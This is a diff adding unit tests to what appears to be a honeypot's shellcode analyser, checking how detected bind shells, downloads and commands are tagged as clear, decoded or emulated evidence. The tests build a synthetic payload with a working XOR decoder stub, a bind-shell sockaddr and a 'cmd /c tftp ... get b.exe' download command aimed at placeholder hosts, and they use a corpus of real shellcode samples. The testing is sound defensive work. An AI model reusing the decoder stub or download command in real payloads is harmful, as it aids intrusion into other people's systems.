@@ -17,6 +17,7 @@
 
 #define HONEYNET_XOR	"honeynet-fc2010-1_lsass_xor99_bindshell1957.bin"
 
+#include "sc_event.h"
 #include "sc_int.h"
 
 #define TEST_MAX	(2 * 1024 * 1024)
@@ -182,6 +183,199 @@ test_result_add(void **state)
 	assert_int_equal(test_res.ndecoders, 1);
 }
 
+/*
+ * The same action found again keeps the stronger evidence; a full list
+ * gives its weakest place to a stronger action, never to an equal one.
+ */
+static void
+test_result_add_evidence(void **state)
+{
+	struct sc_action	a;
+	size_t			i, clear;
+
+	(void)state;
+	memset(&test_res, 0, sizeof(test_res));
+	memset(&a, 0, sizeof(a));
+	a.kind = SC_DOWNLOAD;
+	snprintf(a.url, sizeof(a.url), "http://203.0.113.5/a.exe");
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(test_res.actions[0].evidence, SC_EV_CLEAR);
+	a.evidence = SC_EV_DECODED;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(test_res.actions[0].evidence, SC_EV_DECODED);
+	a.evidence = SC_EV_EMULATED;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(test_res.actions[0].evidence, SC_EV_EMULATED);
+	a.evidence = SC_EV_CLEAR;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(test_res.actions[0].evidence, SC_EV_EMULATED);
+	assert_int_equal(test_res.nactions, 1);
+
+	/* Signatures in clear fill the rest; a decoded action still fits. */
+	memset(&a, 0, sizeof(a));
+	a.kind = SC_BIND_SHELL;
+	for (i = 1; i < SC_MAX_ACTIONS; i++) {
+		a.port = (uint16_t)(2000 + i);
+		assert_int_equal(sc_result_add(&test_res, &a), 0);
+	}
+	a.port = 9;
+	assert_int_equal(sc_result_add(&test_res, &a), -1);
+	a.port = 4444;
+	a.evidence = SC_EV_DECODED;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(test_res.nactions, SC_MAX_ACTIONS);
+	assert_true(find_action(&test_res, SC_BIND_SHELL, NULL, 4444) >= 0);
+	assert_true(find_action(&test_res, SC_DOWNLOAD,
+	    "http://203.0.113.5/a.exe", 0) >= 0);
+	for (i = 0, clear = 0; i < test_res.nactions; i++)
+		clear += test_res.actions[i].evidence == SC_EV_CLEAR;
+	assert_int_equal(clear, SC_MAX_ACTIONS - 2);
+
+	/* Nothing weaker left: an equal one finds no room. */
+	memset(&test_res, 0, sizeof(test_res));
+	a.evidence = SC_EV_DECODED;
+	for (i = 0; i < SC_MAX_ACTIONS; i++) {
+		a.port = (uint16_t)(3000 + i);
+		assert_int_equal(sc_result_add(&test_res, &a), 0);
+	}
+	a.port = 5;
+	assert_int_equal(sc_result_add(&test_res, &a), -1);
+	a.evidence = SC_EV_EMULATED;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(test_res.actions[find_action(&test_res, SC_BIND_SHELL,
+	    NULL, 5)].evidence, SC_EV_EMULATED);
+	a.port = 6;
+	a.evidence = SC_EV_DECODED;
+	assert_int_equal(sc_result_add(&test_res, &a), -1);
+	assert_int_equal(test_res.nactions, SC_MAX_ACTIONS);
+}
+
+/*
+ * A payload that asks for a bind shell on 4444 (a sockaddr pushed, "cmd"
+ * named), a URL and a command that fetches a file, written for this
+ * test; in clear after a NOP sled, or behind the XOR decoder of the
+ * Honeynet exploit (key 0x99), which hides all of it.
+ */
+static const uint8_t	evidence_body[] =
+    "\x68\x02\x00\x11\x5c" "cmd\0http://203.0.113.5/x.exe\0"
+    "cmd /c tftp -i 203.0.113.9 get b.exe";
+
+static size_t
+evidence_payload(uint8_t *buf, int encode)
+{
+	static const uint8_t	stub[] = {
+		0xeb, 0x10, 0x5a, 0x4a, 0x33, 0xc9, 0x66, 0xb9, 0x00, 0x00,
+		0x80, 0x34, 0x0a, 0x99, 0xe2, 0xfa, 0xeb, 0x05, 0xe8, 0xeb,
+		0xff, 0xff, 0xff
+	};
+	size_t			n = sizeof(evidence_body), k, head;
+
+	if (encode) {
+		memcpy(buf, stub, sizeof(stub));
+		buf[8] = (uint8_t)n;
+		buf[9] = (uint8_t)(n >> 8);
+		head = sizeof(stub);
+	} else {
+		memset(buf, 0x90, 16);
+		head = 16;
+	}
+	for (k = 0; k < n; k++)
+		buf[head + k] = evidence_body[k] ^ (encode ? 0x99 : 0);
+	return head + n;
+}
+
+/* The evidence of the action of that kind (and url or port), or -1. */
+static int
+evidence_of(enum sc_action_kind kind, const char *url, uint16_t port)
+{
+	int	i = find_action(&test_res, kind, url, port);
+
+	return i < 0 ? -1 : (int)test_res.actions[i].evidence;
+}
+
+/* Each finding of the payload, and the download its command amounts to. */
+static void
+expect_evidence(int ev)
+{
+	assert_int_equal(evidence_of(SC_BIND_SHELL, NULL, 4444), ev);
+	assert_int_equal(evidence_of(SC_DOWNLOAD, "http://203.0.113.5/x.exe",
+	    0), ev);
+	assert_int_equal(evidence_of(SC_EXEC, NULL, 0), ev);
+	assert_string_equal(test_res.actions[find_action(&test_res, SC_EXEC,
+	    NULL, 0)].command, "cmd /c tftp -i 203.0.113.9 get b.exe");
+	assert_int_equal(evidence_of(SC_DOWNLOAD, "tftp://203.0.113.9/b.exe",
+	    0), ev);
+	assert_int_equal(test_res.nactions, 4);
+}
+
+/* In clear: reported, never to be carried out. */
+static void
+test_evidence_clear(void **state)
+{
+	(void)state;
+	analyze(test_buf, evidence_payload(test_buf, 0));
+	assert_int_equal(test_res.ndecoders, 0);
+	expect_evidence(SC_EV_CLEAR);
+}
+
+/* In a decoder's output: meant. */
+static void
+test_evidence_decoded(void **state)
+{
+	size_t	n;
+
+	(void)state;
+	n = evidence_payload(test_buf, 1);
+	assert_null(memmem(test_buf, n, "cmd", 3));
+	analyze(test_buf, n);
+	assert_int_equal(test_res.ndecoders, 1);
+	assert_string_equal(test_res.decoders[0], "xor");
+	expect_evidence(SC_EV_DECODED);
+}
+
+/*
+ * Each action's evidence in the sundew.shellcode.* event fields, and a
+ * result from the analyser with an evidence no one knows refused.
+ */
+static void
+test_event_evidence(void **state)
+{
+	static const char	 want[] = "\"shellcode\":true,\"decoders\":[],"
+	    "\"actions\":[{\"action\":\"bind_shell\",\"evidence\":\"emulated\","
+	    "\"port\":1957},{\"action\":\"download\",\"evidence\":\"decoded\","
+	    "\"url\":\"http://203.0.113.5/a.exe\"},{\"action\":\"exec\","
+	    "\"evidence\":\"clear\",\"command\":\"cmd /c a.exe\"}]";
+	struct sc_action	 a;
+	char			 buf[4096];
+
+	(void)state;
+	memset(&test_res, 0, sizeof(test_res));
+	test_res.offset = -1;
+	test_res.shellcode = 1;
+	memset(&a, 0, sizeof(a));
+	a.kind = SC_BIND_SHELL;
+	a.port = 1957;
+	a.evidence = SC_EV_EMULATED;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	memset(&a, 0, sizeof(a));
+	a.kind = SC_DOWNLOAD;
+	snprintf(a.url, sizeof(a.url), "http://203.0.113.5/a.exe");
+	a.evidence = SC_EV_DECODED;
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	memset(&a, 0, sizeof(a));
+	a.kind = SC_EXEC;
+	snprintf(a.command, sizeof(a.command), "cmd /c a.exe");
+	assert_int_equal(sc_result_add(&test_res, &a), 0);
+	assert_int_equal(sc_result_check(&test_res), 0);
+	assert_int_equal(sc_event_fields(&test_res, buf, sizeof(buf)),
+	    strlen(want));
+	assert_string_equal(buf, want);
+	test_res.actions[1].evidence = (enum sc_evidence)(SC_EV_EMULATED + 1);
+	assert_int_equal(sc_result_check(&test_res), -1);
+	test_res.actions[1].evidence = (enum sc_evidence)-1;
+	assert_int_equal(sc_result_check(&test_res), -1);
+}
+
 static void
 test_xor_honeynet(void **state)
 {
@@ -216,37 +410,95 @@ test_analyze_honeynet(void **state)
 		if (strcmp(test_res.decoders[i], "xor") == 0)
 			xor = 1;
 	assert_true(xor);
-	assert_true(find_action(&test_res, SC_BIND_SHELL, NULL, 1957) >= 0);
+	assert_int_equal(evidence_of(SC_BIND_SHELL, NULL, 1957),
+	    SC_EV_EMULATED);
 }
 
-/* The pattern layer alone finds what is in clear or under an XOR. */
+/*
+ * The whole analysis keeps the strongest evidence of each action: the
+ * emulator's over a signature in clear (00's sockaddr, 07's URL), the
+ * decoder's where the emulator cannot follow (clet, 16).
+ */
 static void
-test_scan_corpus(void **state)
+test_analyze_corpus_evidence(void **state)
 {
 	static const struct {
 		const char		*file;
 		enum sc_action_kind	 kind;
 		const char		*url;
 		uint16_t		 port;
+		enum sc_evidence	 ev;
 	} cases[] = {
 		{ "libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-"
-		    "encoder-none.bin", SC_BIND_SHELL, NULL, 4444 },
-		{ "libemu_01_win32-bind-exitfunc-seh-lport-4444-size-344-"
-		    "encoder-pex.bin", SC_BIND_SHELL, NULL, 4444 },
-		{ "libemu_06_win32-reverse-exitfunc-seh-lhost-216-75-15-231-"
-		    "lport-4321-si.bin", SC_CONNECT_SHELL, NULL, 4321 },
+		    "encoder-none.bin", SC_BIND_SHELL, NULL, 4444,
+		    SC_EV_EMULATED },
 		{ "libemu_07_win32-downloadexec-url-http-nepenthes-mwcollect-"
 		    "org-bad-exe.bin", SC_DOWNLOAD,
-		    "http://nepenthes.mwcollect.org/bad.exe", 0 },
+		    "http://nepenthes.mwcollect.org/bad.exe", 0,
+		    SC_EV_EMULATED },
+		{ "libemu_16_win32-bind-pex-clet-s-win32-bind-pex-b-50-t-b-c-"
+		    "f-spectrum-s.bin", SC_BIND_SHELL, NULL, 4444,
+		    SC_EV_DECODED },
+	};
+	size_t	k, n;
+
+	(void)state;
+	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
+		n = corpus_shellcode(cases[k].file, test_buf, TEST_MAX);
+		analyze(test_buf, n);
+		if (evidence_of(cases[k].kind, cases[k].url, cases[k].port) !=
+		    (int)cases[k].ev)
+			fail_msg("%s: evidence %d, not %d", cases[k].file,
+			    evidence_of(cases[k].kind, cases[k].url,
+			    cases[k].port), cases[k].ev);
+		assert_int_equal(count_kind(&test_res, cases[k].kind), 1);
+	}
+}
+
+/* The pattern layer alone finds what is in clear or under an XOR. */
+static void
+test_scan_corpus(void **state)
+{
+	/*
+	 * The evidence is the pattern layer's alone: a signature in the
+	 * payload's bytes is only "clear" (the emulator confirms those),
+	 * one in what a decoder produced is "decoded".
+	 */
+	static const struct {
+		const char		*file;
+		enum sc_action_kind	 kind;
+		const char		*url;
+		uint16_t		 port;
+		enum sc_evidence	 ev;
+	} cases[] = {
+		{ "libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-"
+		    "encoder-none.bin", SC_BIND_SHELL, NULL, 4444,
+		    SC_EV_CLEAR },
+		{ "libemu_01_win32-bind-exitfunc-seh-lport-4444-size-344-"
+		    "encoder-pex.bin", SC_BIND_SHELL, NULL, 4444,
+		    SC_EV_DECODED },
+		{ "libemu_02_win32-bind-exitfunc-seh-lport-4444-size-709-"
+		    "encoder-pexalpha.bin", SC_BIND_SHELL, NULL, 4444,
+		    SC_EV_DECODED },
+		{ "libemu_06_win32-reverse-exitfunc-seh-lhost-216-75-15-231-"
+		    "lport-4321-si.bin", SC_CONNECT_SHELL, NULL, 4321,
+		    SC_EV_CLEAR },
+		/* Its URL follows the XOR-encoded code, in clear. */
+		{ "libemu_07_win32-downloadexec-url-http-nepenthes-mwcollect-"
+		    "org-bad-exe.bin", SC_DOWNLOAD,
+		    "http://nepenthes.mwcollect.org/bad.exe", 0,
+		    SC_EV_CLEAR },
 		{ "libemu_09_some-old-dcom-shellcode.bin", SC_BIND_SHELL, NULL,
-		    4444 },
+		    4444, SC_EV_DECODED },
 		{ "libemu_18_the-hackers-choice-realplayer-8-exploit.bin",
-		    SC_BIND_SHELL, NULL, 6318 },
-		{ "libemu_24_linux-bindshell.bin", SC_BIND_SHELL, NULL, 20000 },
+		    SC_BIND_SHELL, NULL, 6318, SC_EV_DECODED },
+		{ "libemu_24_linux-bindshell.bin", SC_BIND_SHELL, NULL, 20000,
+		    SC_EV_CLEAR },
 		/* clet's own loop count is cut short by its junk: libemu and
 		 * a faithful CPU decode 92 bytes only; the label says 4444. */
 		{ "libemu_16_win32-bind-pex-clet-s-win32-bind-pex-b-50-t-b-c-"
-		    "f-spectrum-s.bin", SC_BIND_SHELL, NULL, 4444 },
+		    "f-spectrum-s.bin", SC_BIND_SHELL, NULL, 4444,
+		    SC_EV_DECODED },
 	};
 	size_t	k, n;
 	int	i;
@@ -261,6 +513,9 @@ test_scan_corpus(void **state)
 		    cases[k].port);
 		if (i < 0)
 			fail_msg("%s: expected action not found", cases[k].file);
+		if (test_res.actions[i].evidence != cases[k].ev)
+			fail_msg("%s: evidence %d, not %d", cases[k].file,
+			    test_res.actions[i].evidence, cases[k].ev);
 	}
 	assert_string_equal(test_res.decoders[0], "clet");
 	/* The connect-back names its host. */
@@ -485,8 +740,13 @@ main(void)
 		cmocka_unit_test(test_cmd_separate_user),
 		cmocka_unit_test(test_cmd_nothing),
 		cmocka_unit_test(test_result_add),
+		cmocka_unit_test(test_result_add_evidence),
+		cmocka_unit_test(test_evidence_clear),
+		cmocka_unit_test(test_evidence_decoded),
+		cmocka_unit_test(test_event_evidence),
 		cmocka_unit_test(test_xor_honeynet),
 		cmocka_unit_test(test_analyze_honeynet),
+		cmocka_unit_test(test_analyze_corpus_evidence),
 		cmocka_unit_test(test_scan_corpus),
 		cmocka_unit_test(test_slammer),
 		cmocka_unit_test(test_robustness),
